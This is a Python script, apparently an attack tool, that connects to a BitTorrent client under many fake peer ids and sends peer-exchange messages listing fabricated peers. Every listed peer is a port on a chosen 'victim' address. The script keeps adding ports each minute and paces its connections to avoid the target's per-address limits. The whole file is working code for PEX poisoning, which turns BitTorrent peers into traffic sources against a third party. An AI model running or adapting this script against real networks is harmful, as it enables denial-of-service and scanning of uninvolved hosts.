#!/usr/bin/python3
"""Peers that tell of peers that do not exist: all name ports of one victim.

    pex_liar.py --torrent FILE --target IP:PORT --bind IP --victim IP [--count N] [--seconds S]

Opens N connections to the target, each with a peer id of its own, and sends ut_pex messages: the first names 50 ports of the
victim, and one more follows each minute. Prints JSON lines: "ready" (connections), "told" (messages, ports), "done".
"""
import argparse
import asyncio
import os
import struct
import sys

from wire import GONE, Torrent, endpoint, message, messages, say

EXTENDED, PORTS = 20, 50


def handshake(swarm, peer_id):
    return b'\x13BitTorrent protocol' + bytes([0, 0, 0, 0, 0, 0x10, 0, 0]) + swarm + peer_id


def text(value):
    return b'%d:%s' % (len(value), value)


class Liar:
    def __init__(self, args):
        self.args = args
        self.swarm = Torrent(args.torrent).swarm
        self.victim = bytes(int(part) for part in args.victim.split('.'))
        self.connected = self.sent = self.port = 0
        self.few = asyncio.Semaphore(4)

    def lie(self):
        """The next ports of the victim."""
        ports = [1 + (self.port + i) % 65000 for i in range(PORTS)]
        self.port += PORTS
        added = b''.join(self.victim + struct.pack('>H', port) for port in ports)
        return b'd' + text(b'added') + text(added) + text(b'added.f') + text(b'\x10' * PORTS) + b'e'

    async def one(self, number):
        try:
            # Few at a time: who comes in a crowd from one address is kept out.
            async with self.few:
                reader, writer = await asyncio.open_connection(*endpoint(self.args.target), local_addr=(self.args.bind, 0))
                writer.write(handshake(self.swarm, b'-XX0001-%012d' % number))
                await reader.readexactly(68)
            writer.write(message(EXTENDED, b'\0d1:md6:ut_pexi1eee'))
            pex = 0
            async for kind, body in messages(reader):
                if kind == EXTENDED and body[0] == 0 and b'6:ut_pexi' in body:
                    pex = int(body.split(b'6:ut_pexi')[1].split(b'e')[0])
                    break
            self.connected += 1
            while pex:
                writer.write(message(EXTENDED, bytes([pex]) + self.lie()))
                await writer.drain()
                self.sent += 1
                say('told', messages=self.sent, ports=self.port)
                try:
                    await asyncio.wait_for(self.swallow(reader), 61)
                    return
                except asyncio.TimeoutError:
                    continue
        except GONE:
            return

    async def swallow(self, reader):
        async for _ in messages(reader):
            pass

    async def run(self):
        tasks = [asyncio.create_task(self.one(number)) for number in range(self.args.count)]
        for _ in range(100):
            if self.sent >= self.args.count:
                break
            await asyncio.sleep(0.1)
        say('ready', connections=self.connected)
        await asyncio.wait(tasks, timeout=self.args.seconds)
        say('done', messages=self.sent)
        return 0


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('--torrent', required=True)
    parser.add_argument('--target', required=True)
    parser.add_argument('--bind', required=True)
    parser.add_argument('--victim', required=True)
    parser.add_argument('--count', type=int, default=40)
    parser.add_argument('--seconds', type=float, default=300)
    code = asyncio.run(Liar(parser.parse_args()).run())
    sys.stdout.flush()
    os._exit(code)


if __name__ == '__main__':
    main()
